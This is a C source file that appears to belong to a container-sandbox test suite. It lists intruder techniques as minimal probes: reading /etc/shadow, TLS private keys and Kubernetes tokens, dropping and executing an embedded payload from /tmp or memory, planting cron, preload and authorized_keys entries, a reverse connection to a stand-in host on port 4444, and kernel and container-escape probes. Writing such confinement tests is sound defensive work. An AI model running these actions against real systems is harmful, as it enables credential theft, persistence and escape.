// What an intruder tries. Each attack goes as far as proves that it would work, and no further: handles of the kernel
// are opened and not written, a module is offered that is none, what is created lies in the container.
#define _GNU_SOURCE
#include "implant.h"
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/if_ether.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <sched.h>
#include <string.h>
#include <sys/klog.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

__asm__(".section .rodata\n"
	".global payload, payload_end\n.hidden payload, payload_end\n"
	"payload:\n.incbin \"payload\"\npayload_end:\n"
	".previous");

#define DROPPED "/tmp/.update"
#define STRANGER "203.0.113.66"

extern char **environ;
struct progress *now;

// Says what comes next; false ends the attack where the step before failed.
static int try(const char *step, long result)
{
	now->step = step;
	if (result < 0)
		now->error = errno;
	return result >= 0;
}

// A result that tells that the kernel got as far as looking at what it was given.
static int reached(const char *step, long result, int error)
{
	if (result < 0 && errno == error)
		return try(step, 0);
	return try(step, result);
}

static void become(const char *path, char *const arguments[])
{
	now->step = "exec";
	execve(path, arguments, environ);
	now->error = errno;
}

static void shell(void) { become("/bin/sh", (char *[]){ "sh", "-c", "exit 42", 0 }); }
static void tool(void) { become("/usr/bin/curl", (char *[]){ "curl", "--version", 0 }); }

static int drop(void)
{
	int file = open(DROPPED, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
	if (!try("create", file) || !try("write", write(file, payload, payload_end - payload)))
		return 0;
	return try("chmod", fchmod(file, 0755)) && try("close", close(file));
}

static void drop_and_run(void)
{
	if (drop())
		become(DROPPED, (char *[]){ "update", 0 });
}

static void drop_library(void)
{
	if (!drop())
		return;
	int file = open(DROPPED, O_RDONLY | O_CLOEXEC);
	if (try("open", file))
		try("map", mmap(0, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, file, 0) == MAP_FAILED ? -1 : 0);
}

static void memory(void)
{
	int file = memfd_create("update", MFD_CLOEXEC);
	if (!try("memfd", file) || !try("write", write(file, payload, payload_end - payload)))
		return;
	now->step = "exec";
	syscall(SYS_execveat, file, "", (char *[]){ "update", 0 }, environ, AT_EMPTY_PATH);
	now->error = errno;
}

static void trojan(void) { try("open", open("/usr/bin/find", O_WRONLY)); }

static void read_some(const char *path)
{
	char text[64];
	int file = open(path, O_RDONLY);
	if (try("open", file))
		try("read", read(file, text, sizeof(text)));
}

static void shadow(void) { read_some("/etc/shadow"); }
static void private_key(void) { read_some("/etc/ssl/private/site.key"); }
static void account_token(void) { read_some("/var/run/secrets/kubernetes.io/serviceaccount/token"); }
static void environment(void) { read_some("/proc/1/environ"); }

static void create(const char *path) { try("create", open(path, O_WRONLY | O_CREAT, 0644)); }

static void cron(void) { create("/etc/cron.d/update"); }
static void preload(void) { create("/etc/ld.so.preload"); }

static void authorized_keys(void)
{
	if (reached("mkdir", mkdir("/root/.ssh", 0700), EEXIST))
		create("/root/.ssh/authorized_keys");
}

static struct sockaddr_in address(const char *text, int port)
{
	struct sockaddr_in at = { .sin_family = AF_INET, .sin_port = htons(port) };
	inet_pton(AF_INET, text, &at.sin_addr);
	return at;
}

static void reverse_connection(void)
{
	struct sockaddr_in at = address(STRANGER, 4444);
	int end = socket(AF_INET, SOCK_STREAM, 0);
	if (try("socket", end))
		reached("connect", connect(end, (struct sockaddr *)&at, sizeof(at)), ECONNREFUSED);
}

static void datagram(void)
{
	struct sockaddr_in at = address(STRANGER, 53);
	int end = socket(AF_INET, SOCK_DGRAM, 0);
	if (try("socket", end))
		try("send", sendto(end, "x", 1, 0, (struct sockaddr *)&at, sizeof(at)));
}

static void back_door(void)
{
	struct sockaddr_in at = address("0.0.0.0", 31337);
	int end = socket(AF_INET, SOCK_STREAM, 0);
	if (try("socket", end) && try("bind", bind(end, (struct sockaddr *)&at, sizeof(at))))
		try("listen", listen(end, 1));
}

static void packet_socket(void) { try("socket", socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL))); }

static void core_pattern(void) { try("open", open("/proc/sys/kernel/core_pattern", O_WRONLY)); }
static void sysrq(void) { try("open", open("/proc/sysrq-trigger", O_WRONLY)); }

static void release_agent(void)
{
	if (!try("mount", mount("none", "/mnt", "cgroup", 0, "none,name=runward-test")))
		return;
	if (try("open", open("/mnt/release_agent", O_WRONLY)))
		umount2("/mnt", MNT_DETACH);
}

static void mount_something(void) { try("mount", mount("none", "/mnt", "tmpfs", 0, "size=4k")); }

static void bpf_map(void)
{
	union bpf_attr map = { .map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1 };
	try("bpf", syscall(SYS_bpf, BPF_MAP_CREATE, &map, sizeof(map)));
}

static void trace(void) { try("attach", ptrace(PTRACE_SEIZE, getppid(), 0, 0)); }

static void perf(void)
{
	struct perf_event_attr event = { .type = PERF_TYPE_SOFTWARE, .size = sizeof(event) };
	event.config = PERF_COUNT_SW_CPU_CLOCK;
	try("open", syscall(SYS_perf_event_open, &event, -1, 0, -1, 0));
}

static void io_uring(void)
{
	struct io_uring_params ring = { 0 };
	try("setup", syscall(SYS_io_uring_setup, 4, &ring));
}

static void fault_handler(void) { try("userfaultfd", syscall(SYS_userfaultfd, 0)); }
static void user_namespace(void) { try("unshare", unshare(CLONE_NEWUSER)); }

static void join_namespace(void)
{
	int file = open("/proc/self/ns/uts", O_RDONLY);
	if (try("open", file))
		try("setns", setns(file, 0));
}

static void device(int type, const unsigned (*numbers)[2], int count)
{
	for (int i = 0; i < count; i++) {
		unlink("/tmp/.device");
		dev_t number = makedev(numbers[i][0], numbers[i][1]);
		if (!try("mknod", mknod("/tmp/.device", type | 0600, number)))
			return;
		int file = open("/tmp/.device", O_RDONLY);
		// Which disks a machine has differs.
		if (file < 0 && (errno == ENXIO || errno == ENODEV) && i + 1 < count)
			continue;
		try("open", file);
		break;
	}
	unlink("/tmp/.device");
}

static void disk(void)
{
	device(S_IFBLK, (const unsigned[][2]){ { 7, 0 }, { 254, 0 }, { 253, 0 }, { 8, 0 }, { 259, 0 } }, 5);
}
static void memory_device(void) { device(S_IFCHR, (const unsigned[][2]){ { 1, 1 } }, 1); }

static void module(void) { reached("load", syscall(SYS_init_module, payload, 16, ""), ENOEXEC); }
static void key(void) { try("keyctl", syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, 0)); }
static void kernel_log(void) { try("syslog", klogctl(3, (char[16]){ 0 }, 16)); }

static void setuid_program(void)
{
	become("/usr/bin/su", (char *[]){ "su", "--version", 0 });
}

static void change_root(void) { try("chroot", chroot("/tmp")); }

static void host_name(void)
{
	char name[64];
	if (try("gethostname", gethostname(name, sizeof(name))))
		try("sethostname", sethostname(name, strlen(name)));
}

// The order is that of ATTACKS in attacks.ts.
const struct attack attacks[] = {
	{ "shell", shell, RAN },
	{ "download-tool", tool, 0 },
	{ "drop-and-run", drop_and_run, RAN },
	{ "drop-library", drop_library, 0 },
	{ "run-from-memory", memory, RAN },
	{ "trojan-program", trojan, 0 },
	{ "read-shadow", shadow, 0 },
	{ "read-private-key", private_key, 0 },
	{ "read-account-token", account_token, 0 },
	{ "read-environment", environment, 0 },
	{ "write-cron", cron, 0 },
	{ "write-preload", preload, 0 },
	{ "write-authorized-keys", authorized_keys, 0 },
	{ "reverse-connection", reverse_connection, 0 },
	{ "send-datagram", datagram, 0 },
	{ "open-back-door", back_door, 0 },
	{ "packet-socket", packet_socket, 0 },
	{ "core-pattern", core_pattern, 0 },
	{ "sysrq", sysrq, 0 },
	{ "release-agent", release_agent, 0 },
	{ "mount", mount_something, 0 },
	{ "bpf", bpf_map, 0 },
	{ "ptrace", trace, 0 },
	{ "perf", perf, 0 },
	{ "io-uring", io_uring, 0 },
	{ "userfaultfd", fault_handler, 0 },
	{ "user-namespace", user_namespace, 0 },
	{ "setns", join_namespace, 0 },
	{ "raw-disk", disk, 0 },
	{ "kernel-memory", memory_device, 0 },
	{ "load-module", module, 0 },
	{ "keyctl", key, 0 },
	{ "kernel-log", kernel_log, 0 },
	{ "setuid-program", setuid_program, 0 },
	{ "change-root", change_root, 0 },
	{ "set-hostname", host_name, 0 },
};
const int attack_count = sizeof(attacks) / sizeof(attacks[0]);
